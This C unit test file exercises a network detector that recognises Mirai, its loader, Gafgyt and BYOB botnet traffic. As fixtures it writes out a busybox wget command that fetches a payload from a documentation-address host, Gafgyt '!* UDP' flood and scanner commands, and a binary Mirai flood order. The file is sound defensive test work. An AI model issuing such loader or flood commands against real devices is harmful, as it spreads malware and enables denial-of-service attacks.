/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * detect/families_test.c - Mirai, its loader, Gafgyt and BYOB are named; what shares one trait with
 * them is not, or only as a hint.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>

#include "detect/bot_play.h"
#include "detect/detectors.h"

#define OURS "192.168.1.20"
#define OUTSIDE "203.0.113.5"
#define TARGET "198.51.100.80"

static int set_up(void **state)
{
	*state = play_open(&detector_families, NULL);
	return 0;
}

static int tear_down(void **state)
{
	play_close(*state);
	return 0;
}

static float found(struct play *play, const char *from)
{
	float confidence;

	play_count(play, KIND_BOT_C2, play_addr(from), &confidence);
	return confidence;
}

static const struct finding *last(struct play *play)
{
	assert_true(play->findings.count > 0);
	return &play->findings.list[play->findings.count - 1];
}

static struct app_event talk(
	struct play *play, const char *client, const char *server, uint16_t port)
{
	return play_event(
		play, APP_LOOKS, 1, play_addr(client), play_addr(server), IPPROTO_TCP, port);
}

static void say_bytes(struct play *play, struct app_event *event, unsigned side,
	enum looks_kind kind, uint32_t count, const void *text, size_t len)
{
	event->looks.kind = kind;
	event->looks.side = (uint8_t)side;
	event->looks.count = count;
	event->looks.text = (struct app_text){ text, (uint32_t)len };
	play_see(play, event);
}

static void say(struct play *play, struct app_event *event, unsigned side, enum looks_kind kind,
	uint32_t count, const char *text)
{
	say_bytes(play, event, side, kind, count, text, strlen(text));
}

/* Both sides, with so many seconds between. */
static void keep_alive(struct play *play, struct app_event *event, unsigned count, int64_t gap_s)
{
	for (unsigned i = 1; i <= count; i++) {
		event->time_ns += gap_s * NS_PER_S;
		say(play, event, 0, LOOKS_MIRAI_KEEPALIVE, i, "");
		say(play, event, 1, LOOKS_MIRAI_KEEPALIVE, i, "");
	}
}

static void test_mirai_keepalives(void **state)
{
	struct play *play = *state;
	struct app_event event = talk(play, OURS, OUTSIDE, 23);

	say(play, &event, 0, LOOKS_MIRAI_LOGIN, 1, "");
	assert_int_equal(play->findings.count, 0);
	keep_alive(play, &event, 1, 60);
	assert_int_equal(play->findings.count, 0);
	keep_alive(play, &event, 4, 60);
	assert_true(found(play, OURS) > 0.85F);
	assert_string_equal(last(play)->family, "mirai");
	assert_int_equal(last(play)->to_role, ROLE_CONTROLLER);
}

/* What begins alike and beats every 8 s is a hint; without the beginning it is nothing. */
static void test_not_mirai(void **state)
{
	struct play *play = *state;
	struct app_event event = talk(play, OURS, OUTSIDE, 23);

	keep_alive(play, &event, 8, 60);
	assert_int_equal(play->findings.count, 0);
	event = talk(play, OURS, OUTSIDE, 23);
	say(play, &event, 0, LOOKS_MIRAI_LOGIN, 1, "");
	keep_alive(play, &event, 8, 8);
	assert_true(found(play, OURS) < 0.6F);
}

static const uint8_t order[] = { 0, 0, 0, 60, 0, 1, 198, 51, 100, 80, 32, 0 };

static void test_mirai_order(void **state)
{
	struct play *play = *state;
	struct app_event event = talk(play, OURS, OUTSIDE, 23);
	struct addr target = play_addr(TARGET);

	say(play, &event, 0, LOOKS_MIRAI_LOGIN, 1, "");
	say_bytes(play, &event, 1, LOOKS_MIRAI_ORDER, 1, order, sizeof(order));
	assert_int_equal(play->findings.count, 2);
	assert_string_equal(
		play->findings.list[0].detail, "ordered a UDP flood on 198.51.100.80 for 60 s");
	assert_true(play->findings.list[0].confidence > 0.9F);
	assert_int_equal(last(play)->to_role, ROLE_TARGET);
	assert_true(addr_equal(&last(play)->to, &target));
	for (unsigned i = 0; i < 40; i++) {
		struct app_event opening =
			play_event(play, APP_REFUSED, 2, play_addr(OURS), target, IPPROTO_TCP, 80);

		play_see(play, &opening);
	}
	assert_int_equal(play->findings.count, 3);
	assert_non_null(strstr(last(play)->reason, "obeyed"));
	assert_string_equal(last(play)->detail, "much traffic to 198.51.100.80, as ordered");
}

/* What the host does elsewhere, or much later, is not obedience. */
static void test_not_obeyed(void **state)
{
	struct play *play = *state;
	struct app_event event = talk(play, OURS, OUTSIDE, 23);

	say(play, &event, 0, LOOKS_MIRAI_LOGIN, 1, "");
	say_bytes(play, &event, 1, LOOKS_MIRAI_ORDER, 1, order, sizeof(order));
	for (unsigned i = 0; i < 80; i++) {
		struct app_event opening = play_event(play, APP_CONNECT, i & 1 ? 2 : 100,
			play_addr(OURS), play_addr(i & 1 ? OUTSIDE : TARGET), IPPROTO_TCP, 80);

		play_see(play, &opening);
	}
	assert_int_equal(play->findings.count, 2);
}

static void test_loader(void **state)
{
	struct play *play = *state;
	struct app_event event = talk(play, OUTSIDE, OURS, 23);
	float confidence;

	say(play, &event, 0, LOOKS_MIRAI_LOADER, 5, "/bin/busybox ECCHI");
	say(play, &event, 1, LOOKS_MIRAI_LOADER, 1, "ECCHI: applet not found");
	assert_true(found(play, OURS) > 0.8F);
	assert_int_equal(last(play)->to_role, ROLE_CONTROLLER);
	event.looks.traits = TRAIT_DOWNLOAD;
	say(play, &event, 0, LOOKS_MIRAI_LOADER, 6,
		"/bin/busybox wget http://198.51.100.9/a; /bin/busybox ECCHI");
	assert_int_equal(play_count(play, KIND_BOT_DROPPER, play_addr(OURS), &confidence), 1);
	event = talk(play, OURS, OUTSIDE, 23); /* ours loads it onto others */
	say(play, &event, 0, LOOKS_MIRAI_LOADER, 5, "/bin/busybox MIRAI");
	assert_int_equal(last(play)->to_role, ROLE_TARGET);
}

/* A stranger types what a loader does, and the answers too, at a port that obeys nobody. */
static void test_typed_at_an_open_port(void **state)
{
	struct play *play = *state;
	struct app_event event = talk(play, OUTSIDE, OURS, 2525);

	say(play, &event, 0, LOOKS_MIRAI_LOADER, 5, "/bin/busybox ECCHI");
	say(play, &event, 0, LOOKS_MIRAI_LOADER, 6, "ECCHI: applet not found");
	event.looks.traits = TRAIT_DOWNLOAD;
	say(play, &event, 0, LOOKS_MIRAI_LOADER, 7,
		"/bin/busybox wget http://198.51.100.9/a; /bin/busybox ECCHI");
	assert_true(found(play, OURS) < 0.6F);
}

/* An administrator of a small device. */
static void test_not_loader(void **state)
{
	struct play *play = *state;
	struct app_event event = talk(play, OUTSIDE, OURS, 23);

	say(play, &event, 0, LOOKS_MIRAI_LOADER, 1, "/bin/busybox ls; /bin/busybox MIX");
	say(play, &event, 0, LOOKS_MIRAI_LOADER, 2, "/bin/busybox wget http://192.168.1.2/fw");
	assert_int_equal(play->findings.count, 0);
}

static void test_gafgyt(void **state)
{
	struct play *play = *state;
	struct app_event event = talk(play, OURS, OUTSIDE, 666);

	say(play, &event, 1, LOOKS_GAFGYT, 4, "PING");
	say(play, &event, 0, LOOKS_GAFGYT, 4, "PONG");
	assert_int_equal(play->findings.count, 0); /* a chat */
	say(play, &event, 1, LOOKS_GAFGYT, 5, "!* UDP 198.51.100.80 80 60 32 0 10");
	assert_true(found(play, OURS) > 0.9F);
	assert_string_equal(play->findings.list[0].family, "gafgyt");
	assert_int_equal(last(play)->to_role, ROLE_TARGET);
	event = talk(play, OURS, "203.0.113.6", 666);
	say(play, &event, 1, LOOKS_GAFGYT, 1, "!* SCANNER ON");
	assert_true(last(play)->confidence < 0.6F);
}

static void contact(struct play *play, double time_s, enum app_event_type type, uint16_t port)
{
	struct app_event event = play_event(
		play, type, time_s, play_addr(OURS), play_addr(OUTSIDE), IPPROTO_TCP, port);

	play_see(play, &event);
}

static void test_byob(void **state)
{
	struct play *play = *state;
	struct app_event event = talk(play, OURS, OUTSIDE, 1337);

	play_dns(play, 0.5, play_addr(OURS), "api.ipify.org", play_addr(TARGET));
	say(play, &event, 0, LOOKS_BYOB, 2, "");
	assert_true(found(play, OURS) > 0.7F);
	contact(play, 3, APP_CONNECT, 1338);
	assert_true(found(play, OURS) > 0.9F);
	assert_string_equal(last(play)->family, "byob");
	assert_int_equal(last(play)->port, 1337);
	assert_true(finding_evidence(last(play), "services", 0) > 0.9);
}

/* The services may be spoken to first; and who finds nobody tries again after 30 s. */
static void test_byob_order(void **state)
{
	struct play *play = *state;
	struct app_event event;

	for (unsigned i = 0; i < 4; i++)
		contact(play, i * 30, APP_REFUSED, 1337);
	contact(play, 95, APP_CONNECT, 1339);
	event = talk(play, OURS, OUTSIDE, 1337);
	event.time_ns += 100 * NS_PER_S;
	say(play, &event, 0, LOOKS_BYOB, 2, "");
	assert_true(found(play, OURS) > 0.9F);
	assert_true(finding_evidence(last(play), "retries", 0) > 2.9);
}

/* A session alone is a hint; its ports, or retries, alone nothing. */
static void test_not_byob(void **state)
{
	struct play *play = *state;
	struct app_event event = talk(play, OURS, OUTSIDE, 5000);

	for (unsigned i = 0; i < 6; i++)
		contact(play, i * 30, APP_REFUSED, 8000);
	for (unsigned i = 1; i < 4; i++)
		contact(play, i, APP_CONNECT, (uint16_t)(8000 + i));
	assert_int_equal(play->findings.count, 0);
	say(play, &event, 0, LOOKS_BYOB, 2, "");
	assert_true(found(play, OURS) < 0.6F);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_mirai_keepalives, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_not_mirai, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_mirai_order, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_not_obeyed, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_loader, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_typed_at_an_open_port, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_not_loader, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_gafgyt, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_byob, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_byob_order, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_not_byob, set_up, tear_down),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
